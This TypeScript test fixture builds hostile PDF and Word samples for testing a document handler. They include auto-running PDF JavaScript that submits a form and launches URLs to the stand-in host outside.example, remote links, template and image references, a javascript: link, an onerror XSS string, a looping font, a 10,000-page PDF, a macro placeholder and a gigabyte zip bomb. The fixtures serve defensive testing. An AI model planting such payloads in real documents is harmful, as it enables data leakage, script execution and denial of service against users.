import { zip } from './sample-files.ts'

/** An address that must never be requested; no test serves it. */
export const outside = 'http://outside.example'

/** A PDF of these objects, the first of which is its catalog. */
function pdfOf(objects: string[]): Buffer<ArrayBuffer> {
  let text = '%PDF-1.7\n'
  const offsets = objects.map((object, index) => {
    const at = text.length
    text += `${index + 1} 0 obj\n${object}\nendobj\n`
    return at
  })
  const table = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')
  const size = objects.length + 1
  text += `xref\n0 ${size}\n0000000000 65535 f \n${table}`
  return Buffer.from(
    `${text}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${text.indexOf('xref\n0 ')}\n%%EOF\n`,
    'latin1',
  )
}

const stream = (content: string) => `<< /Length ${content.length} >>\nstream\n${content}\nendstream`
const helvetica = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'
const write = (text: string) => stream(`BT /F1 24 Tf 72 700 Td (${text}) Tj ET`)
const page = (contents: number, more = '') =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents ${contents} 0 R /Resources << /Font << /F1 3 0 R >> >> ${more} >>`

/** One page with a text. */
export const pdfWithText = (text: string) =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
    helvetica,
    page(5),
    write(text),
  ])

const script = `<< /S /JavaScript /JS (app.alert\\("ran"\\); this.submitForm\\("${outside}/form"\\); app.launchURL\\("${outside}/run"\\)) >>`

/** Scripts for opening, closing, and clicking, a form that sends itself, and links and files from outside. */
const pdfWithScript = pdfOf([
  `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} /AA << /WC ${script} >> /AcroForm << /Fields [6 0 R] >> /Names << /JavaScript << /Names [(start) ${script}] >> >> >>`,
  '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
  helvetica,
  page(5, `/Annots [6 0 R 7 0 R 8 0 R] /AA << /O ${script} >>`),
  write('Ordinary text'),
  `<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [72 600 200 640] /A ${script} /AA << /E ${script} >> >>`,
  `<< /Type /Annot /Subtype /Link /Rect [72 690 300 730] /A << /S /URI /URI (${outside}/link) >> >>`,
  `<< /Type /Annot /Subtype /Link /Rect [72 500 300 540] /A << /S /GoToR /F << /FS /URL /F (${outside}/other.pdf) >> >> >>`,
])

const pageCount = 10_000

const pdfWithManyPages = pdfOf([
  '<< /Type /Catalog /Pages 2 0 R >>',
  `<< /Type /Pages /Kids [${Array.from({ length: pageCount }, (_, index) => `${index + 5} 0 R`).join(' ')}] /Count ${pageCount} >>`,
  helvetica,
  write('One of many'),
  ...Array.from({ length: pageCount }, () => page(4)),
])

/** A drawn font whose only letter is written in that font. */
const pdfWithLoopingFont = pdfOf([
  '<< /Type /Catalog /Pages 2 0 R >>',
  '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
  '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FontMatrix [0.001 0 0 0.001 0 0] /FirstChar 97 /LastChar 97 ' +
    '/Widths [1000] /Encoding << /Differences [97 /a] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /F1 3 0 R >> >> >>',
  page(5),
  write('aaaa'),
  stream('1000 0 d0 BT /F1 1 Tf (aaaa) Tj ET'),
])

const types =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
  '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ' +
  'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
const relationships = (entries: string) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${entries}</Relationships>`
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

/** A Word file with this body; `parts` are added to it. */
const wordFile = (body: string, links = '', parts: Record<string, Buffer | string> = {}) =>
  zip({
    '[Content_Types].xml': types,
    '_rels/.rels': relationships(`<Relationship Id="r1" Type="${office}/officeDocument" Target="word/document.xml"/>`),
    'word/_rels/document.xml.rels': relationships(links),
    'word/document.xml':
      '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" ' +
      'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ' +
      'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" ' +
      'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">' +
      `<w:body>${body}</w:body></w:document>`,
    ...parts,
  })

const paragraph = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`

/** A picture and a template from outside, and a link that would run a script. */
const wordWithLinks = (parts: Record<string, Buffer> = {}) =>
  wordFile(
    paragraph('Plain words &lt;img src="/healthz" onerror="alert(1)"&gt;') +
      '<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><a:blip r:link="r2"/></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>' +
      `<w:p><w:hyperlink r:id="r3"><w:r><w:t>Press here</w:t></w:r></w:hyperlink></w:p>`,
    `<Relationship Id="r2" Type="${office}/image" Target="${outside}/picture.png" TargetMode="External"/>` +
      `<Relationship Id="r3" Type="${office}/hyperlink" Target="javascript:alert(1)" TargetMode="External"/>` +
      `<Relationship Id="r4" Type="${office}/attachedTemplate" Target="${outside}/template.dotm" TargetMode="External"/>`,
    parts,
  )

/** Small as it is sent, and a gigabyte unpacked. */
const wordBomb = () => wordFile(paragraph('x'), '', { 'word/media/large.xml': Buffer.alloc(1024 ** 3) })

const pdfType = { type: 'application/pdf' }
const wordType = { type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document' }

export const hostileFiles = () => ({
  script: new File([pdfWithScript], 'script.pdf', pdfType),
  manyPages: new File([pdfWithManyPages], 'many pages.pdf', pdfType),
  loopingFont: new File([pdfWithLoopingFont], 'looping font.pdf', pdfType),
  links: new File([wordWithLinks()], 'links.docx', wordType),
  macro: new File([wordWithLinks({ 'word/vbaProject.bin': Buffer.alloc(4096, 1) })], 'macro.docx', wordType),
  bomb: new File([wordBomb()], 'bomb.docx', wordType),
})
